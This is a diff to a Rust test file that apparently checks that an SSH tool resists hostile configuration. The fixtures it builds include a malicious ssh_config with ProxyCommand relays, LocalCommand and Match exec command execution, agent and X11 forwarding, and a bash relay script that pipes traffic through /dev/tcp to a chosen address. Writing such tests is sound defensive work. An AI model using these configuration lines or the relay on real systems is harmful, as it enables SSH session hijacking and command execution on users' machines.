@@ -81,7 +81,7 @@ impl Scene {
              NoHostAuthenticationForLocalhost yes\nVerifyHostKeyDNS yes\nUpdateHostKeys yes\n\
              HostKeyAlias evil\nHostKeyAlgorithms +ssh-rsa\nHostname {impostor}\n\
              CanonicalizeHostname always\nCanonicalizeFallbackLocal yes\n\
-             ProxyCommand {relay}\nProxyUseFdpass yes\nControlPath {control}\nControlMaster auto\n\
+             ProxyCommand bash {relay}\nProxyUseFdpass yes\nControlPath {control}\nControlMaster auto\n\
              ControlPersist 60\nPermitLocalCommand yes\nLocalCommand touch {marker}\n\
              ForwardAgent yes\nForwardX11 yes\nTunnel yes\nAddKeysToAgent yes\n\
              RemoteForward 127.0.0.1:0 127.0.0.1:22\nRemoteCommand evil\nCheckHostIP yes\n\
@@ -103,7 +103,7 @@ impl Scene {
             "#!/bin/bash\nexec 2>/dev/null 3<>/dev/tcp/{address}/{port} 4<&0\n\
              cat <&4 >&3 &\nexec cat <&3\n"
         );
-        self.write("relay", &script, 0o755)
+        self.write("relay", &script, 0o644)
     }
 }
 
@@ -198,7 +198,7 @@ fn no_single_setting_redirects_the_session() {
     let known = scene.write("known", &scene.impostor.any_host_line(), 0o644);
     let session = scene.session(&scene.genuine);
     for line in [
-        format!("ProxyCommand {}", scene.relay().display()),
+        format!("ProxyCommand bash {}", scene.relay().display()),
         format!("Hostname {}", scene.impostor.address),
     ] {
         let config = format!("UserKnownHostsFile {}\n{line}\n", known.display());
@@ -293,7 +293,7 @@ fn the_configuration_files_of_the_machine_are_not_read() {
     let matched = format!("Match exec \"touch {}\"\n", marker.display());
     let known = scene.write("known", &scene.impostor.any_host_line(), 0o644);
     let user = format!(
-        "UserKnownHostsFile {}\nProxyCommand {}\n{matched}",
+        "UserKnownHostsFile {}\nProxyCommand bash {}\n{matched}",
         known.display(),
         scene.relay().display()
     );
